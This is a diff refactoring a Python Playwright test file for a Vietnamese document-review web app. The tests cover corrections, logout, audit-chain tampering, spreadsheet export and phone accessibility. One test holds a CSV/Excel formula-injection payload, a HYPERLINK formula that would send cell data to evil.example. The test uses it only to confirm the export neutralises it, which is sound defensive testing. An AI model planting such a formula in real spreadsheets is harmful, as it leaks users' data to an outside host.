@@ -4,7 +4,6 @@ shown to the auditor, and a formula typed as a reason that stays text in the dow
 
 from __future__ import annotations
 
-import shutil
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -12,39 +11,19 @@ import pytest
 import sqlalchemy as sa
 from axe_playwright_python.sync_playwright import Axe
 from openpyxl import load_workbook
-from playwright.sync_api import Browser, Page, sync_playwright
+from playwright.sync_api import Browser, Page
 
 from kiemchung.settings import Settings
-from kiemchung.stores import open_store
 from kiemchung.web.database import WEB_DATABASE_FILE
-from tests.components import component_unavailable
-from tests.kiemchung.web.browser import CHROMIUM, CHROMIUM_ARGS, serving
-from tests.kiemchung.web.conftest import PASSWORDS
-from tests.kiemchung.web.corpus import UNIT, YEAR, Corpus, install_corpus
-from tests.kiemchung.web.test_browser_phone import PHONE, _check_page
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Browser]:
-    if not CHROMIUM.is_file():
-        component_unavailable(f"no chromium at {CHROMIUM} (scripts/setup installs Debian's chromium)")
-    with sync_playwright() as driver:
-        launched = driver.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS)
-        yield launched
-        launched.close()
+from tests.kiemchung.web.browser import check_phone_page, log_in, serving
+from tests.kiemchung.web.conftest import PASSWORDS, fill_home, with_letter
+from tests.kiemchung.web.corpus import UNIT, YEAR, Corpus
 
 
 @pytest.fixture
 def trust_home(sqlite_settings: Settings, corpus: Corpus, users_database: Path) -> Settings:
     """The test corpus with the letter's unit unrecognised (as the real Đồng Nai decision's was)."""
-    letter = corpus.records["letter"].model_copy(update={"unit": None, "year": None, "needs_review": ["number"]})
-    store = open_store(sqlite_settings)
-    try:
-        install_corpus(Corpus(records={**corpus.records, "letter": letter}, files=corpus.files, sources=corpus.sources),
-                       sqlite_settings.home, store)  # fmt: skip
-    finally:
-        store.close()
-    shutil.copyfile(users_database, sqlite_settings.home / WEB_DATABASE_FILE)
+    fill_home(sqlite_settings, with_letter(corpus, unit=None, year=None, needs_review=["number"]), users_database)
     return sqlite_settings
 
 
@@ -52,21 +31,6 @@ def trust_home(sqlite_settings: Settings, corpus: Corpus, users_database: Path) 
 def site(trust_home: Settings, tmp_path: Path) -> Iterator[str]:
     with serving(trust_home, tmp_path / "server.log") as base:
         yield base
-
-
-@pytest.fixture
-def page(browser: Browser) -> Iterator[Page]:
-    context = browser.new_context(viewport={"width": 1400, "height": 1000}, locale="vi-VN", accept_downloads=True)
-    yield context.new_page()
-    context.close()
-
-
-def _log_in(page: Page, site: str, name: str) -> None:
-    page.goto(f"{site}/login")
-    page.fill("input[name=name]", name)
-    page.fill("input[name=password]", PASSWORDS[name])
-    page.click("form[action='/login'] button[type=submit]")
-    page.wait_for_url(f"{site}/search")
 
 
 def _override(page: Page, site: str, criterion: str, points: str, reason: str) -> None:
@@ -81,7 +45,7 @@ def _override(page: Page, site: str, criterion: str, points: str, reason: str) -
 
 def test_correction_flow(page: Page, site: str, corpus: Corpus, tmp_path: Path) -> None:
     sha = corpus.records["letter"].sha256
-    _log_in(page, site, "thamdinh")
+    log_in(page, site, "thamdinh", PASSWORDS["thamdinh"])
     page.click("nav.menu >> text=Cần rà soát")
     row = page.locator(f"tr.review-item[data-sha256='{sha}']")
     assert "chưa có đơn vị" in row.inner_text()
@@ -105,7 +69,7 @@ def test_correction_flow(page: Page, site: str, corpus: Corpus, tmp_path: Path) 
 
 
 def test_session_revoked_after_logout(browser: Browser, page: Page, site: str) -> None:
-    _log_in(page, site, "kiemtoan")
+    log_in(page, site, "kiemtoan", PASSWORDS["kiemtoan"])
     copied = page.context.cookies()
     page.click("form.who button[type=submit]")
     page.wait_for_url("**/login")
@@ -119,10 +83,10 @@ def test_session_revoked_after_logout(browser: Browser, page: Page, site: str) -
 
 
 def test_chain_tampering_detected(page: Page, site: str, trust_home: Settings, tmp_path: Path) -> None:
-    _log_in(page, site, "thamdinh")
+    log_in(page, site, "thamdinh", PASSWORDS["thamdinh"])
     _override(page, site, "1.1.1", "0,5", "Văn bản chưa đóng dấu")
     page.click("form.who button[type=submit]")
-    _log_in(page, site, "kiemtoan")
+    log_in(page, site, "kiemtoan", PASSWORDS["kiemtoan"])
     page.goto(f"{site}/audit")
     assert "nguyên vẹn" in page.locator("p.verify.ok").inner_text()
     shell = sa.create_engine(f"sqlite:///{trust_home.home / WEB_DATABASE_FILE}")
@@ -138,7 +102,7 @@ def test_chain_tampering_detected(page: Page, site: str, trust_home: Settings, t
 
 def test_formula_neutralised(page: Page, site: str, tmp_path: Path) -> None:
     formula = '=HYPERLINK("http://evil.example/?d="&B2,"Xem chi tiết")'
-    _log_in(page, site, "thamdinh")
+    log_in(page, site, "thamdinh", PASSWORDS["thamdinh"])
     _override(page, site, "1.1.1", "0", formula)
     with page.expect_download() as download:
         page.click("a[href*='scorecard.xlsx']")
@@ -151,16 +115,11 @@ def test_formula_neutralised(page: Page, site: str, tmp_path: Path) -> None:
     assert cells[0].data_type == "s" and cells[0].value == "'" + formula
 
 
-def test_trust_pages_fit_a_phone_and_read_to_a_screen_reader(browser: Browser, site: str, corpus: Corpus,
+def test_trust_pages_fit_a_phone_and_read_to_a_screen_reader(phone: Page, site: str, corpus: Corpus,
                                                              tmp_path: Path) -> None:  # fmt: skip
-    context = browser.new_context(viewport=PHONE, device_scale_factor=2, is_mobile=True, has_touch=True)
-    phone = context.new_page()
-    try:
-        _log_in(phone, site, "quantri")
-        letter = corpus.records["letter"].sha256
-        axe = Axe()
-        for name, url in {"review": "/review", "corrections": f"/documents/{letter}/corrections",
-                          "account": "/users/thamdinh", "password": "/account/password"}.items():  # fmt: skip
-            _check_page(phone, f"{site}{url}", axe, tmp_path, name)
-    finally:
-        context.close()
+    log_in(phone, site, "quantri", PASSWORDS["quantri"])
+    letter = corpus.records["letter"].sha256
+    axe = Axe()
+    for name, url in {"review": "/review", "corrections": f"/documents/{letter}/corrections",
+                      "account": "/users/thamdinh", "password": "/account/password"}.items():  # fmt: skip
+        check_phone_page(phone, f"{site}{url}", axe, tmp_path, name)
